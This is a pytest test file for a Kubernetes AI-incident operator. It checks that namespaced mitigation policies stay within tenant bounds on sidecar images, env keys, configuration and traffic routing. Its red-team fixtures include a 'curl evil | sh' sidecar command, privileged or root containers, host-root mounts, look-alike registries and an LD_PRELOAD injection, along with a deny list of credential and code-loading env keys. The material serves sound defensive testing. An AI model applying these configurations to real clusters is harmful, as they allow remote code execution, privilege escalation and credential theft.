"""Tenant bounds (bounds.py): what a namespaced MitigationPolicy may ask, and that the engine,
the policy check and `aiincident validate` hold it to that (issue 11, finding 1).

The engine tests run the real engine on the in-memory cluster: a policy outside the
bounds that somehow reached the engine as Ready (the policy check is earlier, objects
change) gets Failed entries and nothing but the incident's status is written.
"""

from __future__ import annotations

import contextlib
import copy
import io
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ai_incident_operator import bounds, cli, engine
from ai_incident_operator.bounds import BoundsError, TenantBounds
from ai_incident_operator.policy_status import tenant_problems

from fakecluster import DEFAULT_KINDS, FakeCluster

NS = "team-a"
NOW = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
LABELS = {"app": "chat"}
Body = dict[str, Any]
ALLOWED = TenantBounds(sidecar_images=("registry.example/guardrail",))
SAFE_SIDECAR = {
    "name": "guardrail",
    "image": "registry.example/guardrail:1.4",
    "ports": [{"containerPort": 8001}],
    "securityContext": {"runAsNonRoot": True, "allowPrivilegeEscalation": False},
}


def deployment(volumes: list | None = None, env_from: list | None = None) -> Body:
    container: Body = {"name": "llm", "image": "llm:v42", "ports": [{"containerPort": 8000}]}
    if env_from:
        container["envFrom"] = env_from
    pod: Body = {"containers": [container]}
    if volumes:
        pod["volumes"] = volumes
    return {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "chat", "namespace": NS, "labels": dict(LABELS)},
        "spec": {"replicas": 3, "selector": {"matchLabels": dict(LABELS)},
                 "template": {"metadata": {"labels": dict(LABELS)}, "spec": pod}},
    }  # fmt: skip


def service(name: str, app: str, fallback: bool = False) -> Body:
    meta: Body = {"name": name, "namespace": NS}
    if fallback:
        meta["labels"] = {bounds.FALLBACK_LABEL: "true"}
    return {"apiVersion": "v1", "kind": "Service", "metadata": meta,
            "spec": {"selector": {"app": app}, "ports": [{"name": "http", "port": 80}]}}  # fmt: skip


def cluster(**deployment_kwargs: Any) -> FakeCluster:
    fake = FakeCluster(DEFAULT_KINDS | {"VirtualService", "HTTPRoute"})
    fake.add(deployment(**deployment_kwargs))
    fake.add(service("chat", "chat"))
    fake.add(service("chat-fallback", "chat-fallback", fallback=True))
    fake.add(service("plain", "chat-fallback"))  # a Service nobody marked as a fallback
    fake.add(service("payments", "payments"))  # another team's pods
    fake.add({"apiVersion": "v1", "kind": "ConfigMap",
              "metadata": {"name": "chat-config", "namespace": NS}, "data": {"a": "1"}})  # fmt: skip
    fake.add({"apiVersion": "v1", "kind": "ConfigMap",
              "metadata": {"name": "other", "namespace": NS}, "data": {"a": "1"}})  # fmt: skip
    return fake


def problems_of(spec: Body, fake: FakeCluster | None = None, limits: TenantBounds = ALLOWED):
    fake = fake or cluster()
    target = fake.obj("Deployment", NS, "chat")
    assert target is not None
    return bounds.step_problems({**spec}, NS, target, fake.get, limits)


# --- The bounds file -----------------------------------------------------------------------


def test_defaults_are_the_safe_ones():
    default = TenantBounds()
    assert default.sidecar_images == () and default.config_images == ()
    assert not default.allow_sidecar_command and not default.allow_sidecar_secrets
    assert "TEMPERATURE" in default.env_keys and "MAX_TOKENS" in default.env_keys
    # None of the documented knobs is caught by the deny rules.
    assert not [k for k in default.env_keys if bounds.denied_env_key(k.replace("*", "LLM"))]


def test_load_reads_the_file_or_the_environment(tmp_path, monkeypatch):
    path = tmp_path / "b.yaml"
    path.write_text(
        "sidecarImages: [registry.example/guardrail]\nallowSidecarCommand: true\n"
        "envKeys: [TEMPERATURE]\nfallbackServices: [team-a/fb]\n"
    )
    loaded = bounds.load(path)
    assert loaded == TenantBounds(
        sidecar_images=("registry.example/guardrail",),
        allow_sidecar_command=True,
        env_keys=("TEMPERATURE",),
        fallback_services=frozenset({"team-a/fb"}),
    )
    monkeypatch.setenv(bounds.ENV, str(path))
    assert bounds.load() == loaded
    monkeypatch.delenv(bounds.ENV)
    assert bounds.load() == TenantBounds()
    (tmp_path / "empty.yaml").write_text("")
    assert bounds.load(tmp_path / "empty.yaml") == TenantBounds()


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("sidecarImage: [x]", "unknown key 'sidecarImage'"),
        ("sidecarImages: registry.example", "sidecarImages: expected a list"),
        ("allowSidecarCommand: 'yes'", "allowSidecarCommand: expected true or false"),
        ("fallbackServices: [fb]", "'fb' is not NAMESPACE/NAME"),
        ("- a\n- b", "expected a mapping"),
        ("a: [", "not YAML"),
    ],
)
def test_a_bad_file_is_refused_with_the_reason(tmp_path, text, complaint):
    path = tmp_path / "b.yaml"
    path.write_text(text)
    with pytest.raises(BoundsError, match=complaint.replace("[", r"\[")):
        bounds.load(path)
    with pytest.raises(BoundsError, match="cannot read"):
        bounds.load(tmp_path / "missing.yaml")


def test_run_refuses_to_start_with_a_bad_bounds_file(tmp_path):
    path = tmp_path / "b.yaml"
    path.write_text("sidecarImages: nope\n")
    run = [sys.executable, "-m", "ai_incident_operator.cli", "run", "--insecure-no-auth"]
    result = subprocess.run([*run, "--tenant-bounds", str(path)], capture_output=True, text=True)
    assert result.returncode == 2
    assert "sidecarImages: expected a list" in result.stderr


# --- Images --------------------------------------------------------------------------------

PREFIX = st.from_regex(r"[a-z0-9]{1,8}(\.[a-z]{2,4})?(/[a-z0-9]{1,6}){0,2}[/:@]?", fullmatch=True)
TAIL = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789.-_/:@", max_size=12)


@settings(max_examples=300, deadline=None)
@given(prefix=PREFIX, tail=TAIL)
def test_an_image_is_allowed_only_at_a_boundary_of_a_prefix(prefix, tail):
    image = prefix + tail
    allowed = bounds.image_allowed(image, (prefix,))
    boundary = tail == "" or prefix[-1] in "/:@" or tail[0] in "/:@"
    assert allowed == boundary
    # A look-alike registry never passes for the real one.
    if prefix[-1] not in "/:@":
        assert not bounds.image_allowed(prefix + ".evil.io/x", (prefix,))
        assert not bounds.image_allowed(prefix + "-x:1", (prefix,))


@given(image=TAIL)
def test_no_image_is_allowed_without_a_prefix(image):
    assert not bounds.image_allowed(image, ())


# --- Env keys ------------------------------------------------------------------------------

DENIED = ("IMAGE", "TOKEN", "KEY", "SECRET", "PASSWORD", "URL", "HOST", "PATH", "PROXY", "AUTH")


@settings(max_examples=300, deadline=None)
@given(
    before=st.from_regex(r"([A-Z]{1,6}_){0,2}", fullmatch=True),
    word=st.sampled_from(DENIED),
    after=st.from_regex(r"(_[A-Z]{1,6}){0,2}", fullmatch=True),
    lower=st.booleans(),
)
def test_a_key_with_a_denied_word_is_never_set_whatever_env_keys_says(before, word, after, lower):
    key = before + word + after
    key = key.lower() if lower else key
    anything = TenantBounds(env_keys=("*",))
    assert bounds.env_key_problem(key, anything) is not None


@pytest.mark.parametrize(
    "key", ["LD_PRELOAD", "PYTHONPATH", "PATH", "HF_TOKEN", "OPENAI_API_KEY", "MODEL_IMAGE",
            "HTTPS_PROXY", "NODE_OPTIONS", "AWS_REGION", "DB_PASSWORD", "MY_SECRETS"],
)  # fmt: skip
def test_keys_that_change_code_or_carry_credentials_are_denied(key):
    assert bounds.denied_env_key(key)


def test_env_keys_outside_the_list_are_refused_and_the_knobs_taken():
    assert problems_of({"type": "ConservativeConfig", "container": "llm",
                        "env": {"TEMPERATURE": "0", "MAX_TOKENS": "256", "VLLM_TEMPERATURE": "0"}}) == []  # fmt: skip
    (problem,) = problems_of({"type": "ConservativeConfig", "container": "llm", "env": {"DEBUG": "1"}})  # fmt: skip
    assert "env DEBUG is not among the tenant bounds' envKeys" in problem


# --- GuardrailSidecar ----------------------------------------------------------------------


def guard(**container: Any) -> Body:
    return {"type": "GuardrailSidecar", "container": {**SAFE_SIDECAR, **container}}


def test_a_safe_sidecar_from_a_listed_registry_is_in_bounds():
    spec = {**guard(), "servicePort": {"service": "chat", "port": "http", "targetPort": 8001}}
    assert problems_of(spec) == []
    (problem,) = problems_of(spec, limits=TenantBounds())
    assert "sidecarImages: none" in problem


@pytest.mark.parametrize(
    ("container", "complaint"),
    [
        ({"securityContext": {"privileged": True}}, "privileged"),
        ({"securityContext": {"runAsUser": 0}}, "runAsUser: 0"),
        ({"securityContext": {"runAsNonRoot": False}}, "runAsNonRoot: false"),
        ({"securityContext": {"allowPrivilegeEscalation": True}}, "allowPrivilegeEscalation"),
        ({"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}, "added capabilities"),
        ({"securityContext": {"procMount": "Unmasked"}}, "procMount"),
        ({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, "Unconfined"),
        ({"securityContext": {"seLinuxOptions": {"type": "spc_t"}}}, "seLinuxOptions"),
        ({"ports": [{"containerPort": 8001, "hostPort": 80}]}, "hostPort"),
        ({"command": ["sh", "-c", "curl evil | sh"]}, "command/args"),
        ({"args": ["--evil"]}, "command/args"),
        ({"livenessProbe": {"exec": {"command": ["sh"]}}}, "exec probe or hook"),
        ({"lifecycle": {"postStart": {"exec": {"command": ["sh"]}}}}, "exec probe or hook"),
        ({"env": [{"name": "X", "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}]}, "reads Secrets"),
        ({"envFrom": [{"secretRef": {"name": "db"}}]}, "reads Secrets"),
        ({"volumeDevices": [{"name": "d", "devicePath": "/dev/xvda"}]}, "volumeDevices"),
        ({"volumeMounts": [{"name": "v", "mountPath": "/m", "mountPropagation": "Bidirectional"}]}, "mountPropagation"),
        ({"image": "registry.example/guardrail-evil:1"}, "is not from a registry"),
        ({"image": "registry.example.evil.io/guardrail:1"}, "is not from a registry"),
        ({"name": "llm"}, "has a container of that name"),
    ],
)  # fmt: skip
def test_every_red_team_sidecar_is_refused(container, complaint):
    found = problems_of(guard(**container))
    assert any(complaint in p for p in found), found


def test_command_and_secrets_only_when_the_bounds_allow_them():
    spec = guard(command=["guard"], envFrom=[{"secretRef": {"name": "moderation-key"}}])
    wide = TenantBounds(
        sidecar_images=ALLOWED.sidecar_images,
        allow_sidecar_command=True,
        allow_sidecar_secrets=True,
    )
    assert len(problems_of(spec)) == 2 and problems_of(spec, limits=wide) == []


def test_sidecar_mounts_of_host_paths_and_secrets_are_refused():
    fake = cluster(volumes=[{"name": "host", "hostPath": {"path": "/"}},
                            {"name": "creds", "secret": {"secretName": "db"}}])  # fmt: skip
    mounts = [{"name": "host", "mountPath": "/host"}, {"name": "creds", "mountPath": "/c"}]
    found = problems_of(guard(volumeMounts=mounts), fake)
    assert any("hostPath volume host" in p for p in found)
    assert any("Secret volume creds" in p for p in found)


def test_service_port_only_on_the_targets_service_and_to_the_sidecar():
    other = {**guard(), "servicePort": {"service": "payments", "port": "http", "targetPort": 8001}}
    assert any("Service payments selects none of the targets" in p for p in problems_of(other))
    model_port = {**guard(), "servicePort": {"service": "chat", "port": "http", "targetPort": 8000}}
    assert any("not a port of sidecar guardrail" in p for p in problems_of(model_port))


# --- ConservativeConfig --------------------------------------------------------------------


def test_no_image_pin_unless_listed():
    spec = {"type": "ConservativeConfig", "container": "llm", "image": "evil.io/llm:1"}
    (problem,) = problems_of(spec)
    assert "configImages: none" in problem
    assert problems_of({**spec, "image": "registry.example/llm:v41"},
                       limits=TenantBounds(config_images=("registry.example/llm",))) == []  # fmt: skip


def test_only_configmaps_the_target_reads_and_env_rules_for_keys_read_as_env():
    spec = {"type": "ConservativeConfig", "container": "llm",
            "configMap": {"name": "other", "data": {"a": "2"}}}  # fmt: skip
    (problem,) = problems_of(spec, cluster(volumes=[{"name": "c", "configMap": {"name": "chat-config"}}]))  # fmt: skip
    assert "configMap other is not read by Deployment chat" in problem
    mounted = cluster(volumes=[{"name": "c", "configMap": {"name": "other"}}])
    assert problems_of(spec, mounted) == []  # keys of a mounted file: the model's own config
    as_env = cluster(env_from=[{"configMapRef": {"name": "other"}, "prefix": "LD_"}])
    (problem,) = problems_of({**spec, "configMap": {"name": "other", "data": {"PRELOAD": "/x.so"}}}, as_env)  # fmt: skip
    assert "configMap key PRELOAD (read as env) LD_PRELOAD" in problem


# --- TrafficShift --------------------------------------------------------------------------


def shift(router: str = "chat", fallback: str = "chat-fallback", kind: str = "Service") -> Body:
    return {"type": "TrafficShift", "router": {"kind": kind, "name": router},
            "fallback": {"service": fallback}}  # fmt: skip


def test_a_router_to_the_target_and_a_marked_fallback_are_in_bounds():
    assert problems_of(shift()) == []


def test_another_teams_service_cannot_be_repointed():
    (problem,) = problems_of(shift(router="payments"))
    assert "selects none of the incident's targets" in problem


def test_a_router_may_serve_another_of_the_targets_but_not_other_pods():
    fake = cluster()
    second = deployment()
    second["metadata"]["name"] = "chat-2"
    second["spec"]["template"]["metadata"]["labels"] = {"app": "chat-2"}
    fake.add(second)
    targets = [fake.obj("Deployment", NS, "chat"), fake.obj("Deployment", NS, "chat-2")]
    # Service chat serves the first target: the step for the second may still shift it.
    assert bounds.object_problems(shift(), NS, targets[1], fake.get, ALLOWED, targets) == []
    (problem,) = bounds.object_problems(shift(), NS, targets[1], fake.get, ALLOWED)
    assert "selects none of the incident's targets" in problem


def test_an_unmarked_fallback_is_refused_unless_listed():
    (problem,) = problems_of(shift(fallback="plain"))
    assert f'{bounds.FALLBACK_LABEL}="true"' in problem
    listed = TenantBounds(fallback_services=frozenset({f"{NS}/plain"}))
    assert problems_of(shift(fallback="plain"), limits=listed) == []


def test_a_virtual_service_must_route_only_to_the_targets_services():
    fake = cluster()
    fake.add({"apiVersion": "networking.istio.io/v1beta1", "kind": "VirtualService",
              "metadata": {"name": "mixed", "namespace": NS},
              "spec": {"http": [{"route": [{"destination": {"host": "chat"}, "weight": 50},
                                           {"destination": {"host": "api.other.svc.cluster.local"}, "weight": 50}]}]}})  # fmt: skip
    fake.add({"apiVersion": "networking.istio.io/v1beta1", "kind": "VirtualService",
              "metadata": {"name": "ours", "namespace": NS},
              "spec": {"http": [{"route": [{"destination": {"host": f"chat.{NS}.svc.cluster.local"}}]}]}})  # fmt: skip
    (problem,) = problems_of(shift("mixed", kind="VirtualService"), fake)
    assert "outside namespace" in problem and "api.other" in problem
    assert problems_of(shift("ours", kind="VirtualService"), fake) == []


# --- The policy check ----------------------------------------------------------------------

RED_TEAM = {
    "targetSelector": {"matchLabels": LABELS},
    "responses": [{"severity": 1, "actions": [
        guard(image="evil.io/x:1", command=["sh"], securityContext={"privileged": True, "runAsUser": 0}),
        {"type": "ConservativeConfig", "container": "llm", "image": "evil.io/llm:1",
         "env": {"LD_PRELOAD": "/x.so"}, "configMap": {"name": "other", "data": {"a": "2"}}},
        shift(router="payments", fallback="plain"),
    ]}],
}  # fmt: skip


def policy(spec: Body, kind: str = "MitigationPolicy") -> Body:
    meta: Body = {"name": "p", "generation": 1}
    if kind == "MitigationPolicy":
        meta["namespace"] = NS
    return {
        "apiVersion": "aiincident.io/v1alpha1", "kind": kind, "metadata": meta, "spec": spec,
        "status": {"observedGeneration": 1,
                   "conditions": [{"type": "Ready", "status": "True", "reason": "Valid", "message": ""}]},
    }  # fmt: skip


def test_the_policy_check_lists_every_problem_of_a_namespaced_policy_only():
    found = tenant_problems(policy(RED_TEAM), cluster(), ALLOWED)
    text = "\n".join(found)
    for words in ("evil.io/x:1", "privileged", "runAsUser: 0", "command/args", "evil.io/llm:1",
                  "LD_PRELOAD", "configMap other", "payments", "fallback Service plain"):  # fmt: skip
        assert words in text, words
    assert all(p.startswith("responses[0].actions[") for p in found)
    assert tenant_problems(policy(RED_TEAM, "ClusterMitigationPolicy"), cluster(), ALLOWED) == []


# --- The engine refuses at apply time ------------------------------------------------------


def reconcile(policy_body: Body, fake: FakeCluster, limits: TenantBounds | None) -> Body:
    fake.add({"apiVersion": "aiincident.io/v1alpha1", "kind": "AIIncident",
              "metadata": {"name": "harm", "namespace": NS},
              "spec": {"category": "HarmfulOutput", "severity": 1, "target": {"name": "chat"}}})  # fmt: skip
    world = engine.World(policies=[policy_body], tenant_bounds=limits,
                         verify=lambda *a: (True, "ok"), write_review=lambda ctx: None)  # fmt: skip
    engine.reconcile(NS, "harm", world, api=fake, now=NOW)
    status = fake.obj("AIIncident", NS, "harm")["status"]
    return {e["action"]: e for e in status["mitigations"]}


def test_the_engine_refuses_a_ready_policy_outside_the_bounds_and_changes_nothing():
    fake = cluster()
    before = copy.deepcopy(fake.objects)
    entries = reconcile(policy(RED_TEAM), fake, ALLOWED)
    assert {a: e["state"] for a, e in entries.items()} == dict.fromkeys(
        ("GuardrailSidecar", "ConservativeConfig", "TrafficShift"), "Failed"
    )
    for entry in entries.values():
        assert entry["message"].startswith("refused, outside the tenant bounds: ")
        assert (
            "nothing was changed" in entry["message"]
            and "ClusterMitigationPolicy" in entry["message"]
        )
    assert [w for w in fake.writes if w[0] != "status"] == []
    assert {k: v for k, v in fake.objects.items() if k[0] != "AIIncident"} == {
        k: v for k, v in before.items() if k[0] != "AIIncident"
    }


def test_a_cluster_policy_is_trusted_and_an_in_bounds_response_is_applied():
    fake = cluster()
    entries = reconcile(policy(RED_TEAM, "ClusterMitigationPolicy"), fake, ALLOWED)
    assert entries["TrafficShift"]["state"] == "Applied"  # an admin's policy: not bounded
    fine = {"targetSelector": {"matchLabels": LABELS}, "responses": [{"severity": 1, "actions": [
        guard(), {"type": "ConservativeConfig", "container": "llm", "env": {"TEMPERATURE": "0"}},
        shift(), {"type": "ScaleToZero"}]}]}  # fmt: skip
    fake = cluster()
    entries = reconcile(policy(fine), fake, ALLOWED)
    assert {e["state"] for e in entries.values()} == {"Applied"}, entries
    assert fake.obj("Service", NS, "chat")["spec"]["selector"] == {"app": "chat-fallback"}


# Any mix of in- and out-of-bounds choices: the engine writes a step's objects only when
# the bounds find nothing wrong with it, and says why when it does not.
CHOICES = {
    "GuardrailSidecar": st.builds(
        lambda image, privileged, command, name: guard(
            image=image,
            name=name,
            securityContext={"privileged": privileged},
            **({"command": ["x"]} if command else {}),
        ),
        st.sampled_from(["registry.example/guardrail:2", "evil.io/guardrail:1"]),
        st.booleans(),
        st.booleans(),
        st.sampled_from(["guardrail", "llm"]),
    ),
    "ConservativeConfig": st.builds(
        lambda key: {"type": "ConservativeConfig", "container": "llm", "env": {key: "0"}},
        st.sampled_from(["TEMPERATURE", "TOP_P", "LD_PRELOAD", "API_KEY", "DEBUG"]),
    ),
    "TrafficShift": st.builds(
        shift, st.sampled_from(["chat", "payments"]), st.sampled_from(["chat-fallback", "plain"])
    ),
}


@settings(max_examples=60, deadline=None)
@given(actions=st.lists(st.sampled_from(sorted(CHOICES)), unique=True, min_size=1).flatmap(
    lambda types: st.tuples(*(CHOICES[t] for t in types))))  # fmt: skip
def test_nothing_outside_the_bounds_is_ever_written(actions):
    spec = {"targetSelector": {"matchLabels": LABELS},
            "responses": [{"severity": 1, "actions": list(actions)}]}  # fmt: skip
    fake = cluster()
    target = fake.obj("Deployment", NS, "chat")
    wrong = {a["type"]: bounds.step_problems(a, NS, target, fake.get, ALLOWED) for a in actions}
    entries = reconcile(policy(spec), fake, ALLOWED)
    for kind, found in wrong.items():
        entry = entries[kind]
        if found:
            assert entry["state"] == "Failed" and "outside the tenant bounds" in entry["message"]
        else:
            assert entry["state"] == "Applied", entry
    written = {w[1].partition("/")[0] for w in fake.writes if w[0] != "status"}
    if all(wrong.values()):
        assert written == set()


# --- aiincident validate -------------------------------------------------------------------


def validate(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(["validate", *args])
    return code, out.getvalue(), err.getvalue()


def policy_file(tmp_path: Path, kind: str) -> Path:
    import yaml

    body = policy(RED_TEAM, kind)
    body.pop("status")
    body["metadata"].pop("generation")
    path = tmp_path / f"{kind}.yaml"
    path.write_text(yaml.safe_dump(body))
    return path


def test_validate_reports_the_same_problems_for_a_namespaced_policy(tmp_path):
    code, out, err = validate(str(policy_file(tmp_path, "MitigationPolicy")))
    assert code == 1
    assert (
        "spec.responses[0].actions[0] (GuardrailSidecar): sidecar guardrail: image 'evil.io/x:1'"
        in out
    )
    assert "(outside the tenant bounds)" in out and "env LD_PRELOAD" in out
    assert "ClusterMitigationPolicy" in err  # what an admin can do
    code, out, _ = validate(str(policy_file(tmp_path, "ClusterMitigationPolicy")))
    assert code == 0, out
    (tmp_path / "bad.yaml").write_text("envKeys: TEMPERATURE\n")
    code, _, err = validate("--tenant-bounds", str(tmp_path / "bad.yaml"), str(tmp_path))
    assert code == 2 and "envKeys: expected a list" in err
